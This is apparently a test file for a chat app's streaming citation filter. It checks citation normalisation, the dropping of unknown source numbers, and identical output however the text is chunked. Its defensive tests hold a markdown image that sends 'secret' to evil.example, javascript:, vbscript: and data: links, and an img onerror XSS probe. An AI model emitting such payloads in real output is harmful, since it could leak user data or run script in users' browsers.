// The citation filter: the same result however the text is cut, and no number that is not a source's.
import t from 'tap'
import { createCitationFilter } from '../../src/chat/citations.ts'
import { fc, propertyRuns } from '../fixtures/property.ts'

function filtered (texts: string[], count = 3): { text: string, cited: number[] } {
  const filter = createCitationFilter(count)
  const text = texts.map(part => filter.push(part)).join('') + filter.end()
  return { text, cited: filter.cited() }
}

t.test('a letter of two halves that come apart is judged whole', async t => {
  const letter = '\u{10000}'
  for (const parts of [[`<${letter}`], ['<', letter], [`<${letter[0]}`, letter[1]!], ['<', letter[0]!, letter[1]!]]) {
    t.equal(filtered(parts).text, `< ${letter}`)
  }
  t.equal(filtered(['a', letter[0]!]).text, `a${letter[0]}`, 'a half that stays alone is not lost')
})

t.test('turns the models\' ways to cite into [n]', async t => {
  for (const [written, shown, cited] of [
    ['Yes [1].', 'Yes [1].', [1]],
    ['Yes [ 2 ].', 'Yes [2].', [2]],
    ['Yes [1, 3].', 'Yes [1][3].', [1, 3]],
    ['Yes [3;1].', 'Yes [3][1].', [1, 3]],
    ['Yes [^2].', 'Yes [2].', [2]],
    ['Yes [n2].', 'Yes [2].', [2]],
    ['Yes [1][1].', 'Yes [1][1].', [1]],
    ['Yes [4].', 'Yes .', []],
    ['Yes [0] [99] [1, 7].', 'Yes   [1].', [1]],
    ['In [2024] and [a] and [] and [x1].', 'In [2024] and [a] and [] and [x1].', []],
    ['An array[1', 'An array[1', []],
    ['[[1]]', '[[1]]', [1]],
    ['[1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2, 3]', '[1][2][3][1][2][3][1][2][3][1][2][3]', [1, 2, 3]],
  ] as const) t.same(filtered([written]), { text: shown, cited }, written)
})

const piece = fc.oneof(
  fc.constantFrom('](', '](h', '](ht', '](https://', 'javascript', 'JavaScript:', 'java\tscript:', 'data:'),
  fc.constantFrom('[', ']', '[[', '!', '(', ':', '<', '</', 'a',
    ' ', ', ', ';', '^', 'n', '1', '2', '3', '4', '12', '1234', '\n', '€', '👶'),
  fc.constantFrom(
    '[1]', '[2, 3]', '[ 9 ]', '[^1]', '[n 2]', '[1,2,3,4,5,6,7,8,9,10,11,12]', '[1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2]',
    `[${' '.repeat(30)}1]`, `[${'1, '.repeat(40)}2]`
  ),
  fc.string({ maxLength: 8 })
)

t.test('gives the same result however the text is cut', async t => {
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 15 }), fc.infiniteStream(fc.integer({ min: 1, max: 9 })), (pieces, sizes) => {
        const text = pieces.join('')
        const parts: string[] = []
        for (let at = 0; at < text.length;) {
          const size = sizes.next().value
          parts.push(text.slice(at, at + size))
          at += size
        }
        t.same(filtered(parts), filtered([text]))
        t.same(filtered([...text]), filtered([text]))
      }),
      propertyRuns(1000)
    )
  )
})

t.test('does not judge again what was shown, nor what a dropped mark was in front of', async t => {
  for (const text of [
    'javascriptdata:JavaScript:[2, 3][1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2]       ](3',
    '0data:JavaScript:[1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2][JavaScript:[[!',
    '[ 9 ]([ 9 ]', ']([ 9 ]/', ']([ 9 ]',
  ]) {
    const whole = filtered([text])
    for (let size = 1; size <= 9; size++) t.same(filtered(text.match(new RegExp(`[^]{1,${size}}`, 'g'))!), whole, `${text} by ${size}`)
  }
})

t.test('shows no unknown number as a citation, and reports those that are shown', async t => {
  t.doesNotThrow(() => fc.assert(fc.property(fc.array(piece), fc.nat(4), (pieces, count) => {
    const { text, cited } = filtered(pieces, count)
    const shown = [...text.matchAll(/\[(\d{1,3})\]/g)].map(([, n]) => Number(n))
    return shown.every(n => n >= 1 && n <= count && cited.includes(n)) && cited.every(n => shown.includes(n))
  }), propertyRuns(2000)))
})

t.test('does not form a citation from the text around a dropped one', async t => {
  for (const [written, shown, cited] of [
    ['[[9]1]', '[…1]', []],
    ['a]([9]/b', 'a] (…/b', []],
    ['[1[9]]', '[1…]', []],
    ['[[9][8]1]', '[…1]', []],
    ['[[[9]1]', '[[…1]', []],
    ['[[1][9]2]', '[[1]2]', [1]],
  ] as const) t.same(filtered([...written]), { text: shown, cited }, written)
})

t.test('lets no image through, and no mark that is a link', async t => {
  for (const [written, shown] of [
    ['Free![1]', 'Free! [1]'],
    ['![](https://evil.example/?q=secret)', '! [](https://evil.example/?q=secret)'],
    ['![9][x](https://evil.example)', '! [x](https://evil.example)'],
    ['!![a][b]', '!! [a][b]'],
    ['Yes [1](https://evil.example)', 'Yes [1] (https://evil.example)'],
    ['Yes [1, 2](https://evil.example)', 'Yes [1][2] (https://evil.example)'],
    ['Yes [1]\n\n[1]: https://evil.example', 'Yes [1]\n\n[1] : https://evil.example'],
    ['<img src=x onerror=alert(1)>', '< img src=x onerror=alert(1)>'],
    ['a</p><!-- b --><?x', 'a< /p>< !-- b -->< ?x'],
    ['5 < 6 and <3 and x<y', '5 < 6 and <3 and x< y'],
    ['[x](javascript:alert(1))', '[x] (javascript :alert(1))'],
    ['[x](JaVaScRiPt:alert(1))', '[x] (JaVaScRiPt :alert(1))'],
    ['[x](java\nscript:alert(1))', '[x] (java\nscript :alert(1))'],
    ['[x](javascript&colon;alert(1))', '[x] (javascript&colon;alert(1))'],
    ['[x](&#106;avascript:alert(1))', '[x] (&#106;avascript:alert(1))'],
    ['[x]: javascript&#58;alert(1)', '[x] : javascript&#58;alert(1)'],
    ['[x](data:text/html,<b>)', '[x] (data: text/html,< b>)'],
    ['[x](vbscript:y)', '[x] (vbscript :y)'],
    ['[x](http', '[x] (http'],
    ['[x](', '[x] ('],
    ['[a](mailto:a@b.c) [b](tel:+33) [c](/p) [d](#e) [f](http://g)', '[a](mailto:a@b.c) [b](tel:+33) [c](/p) [d](#e) [f](http://g)'],
    ['[Delivery](https://shop.example) (two days): fine!', '[Delivery](https://shop.example) (two days): fine!'],
  ] as const) {
    t.equal(filtered([written]).text, shown, written)
    t.equal(filtered([...written]).text, shown, `${written}, one character at a time`)
  }
})

t.test('does not hold back text that cannot become a citation', async t => {
  const filter = createCitationFilter(3)
  t.equal(filter.push('Price [in'), 'Price [in')
  t.equal(filter.push(' euros] ['), ' euros] ')
  t.equal(filter.push('1'), '')
  t.equal(filter.push('] and'), '[1] and')
  t.equal(filter.push(`[${'1'.repeat(200)}`).length, 201, 'nor held for ever')
})
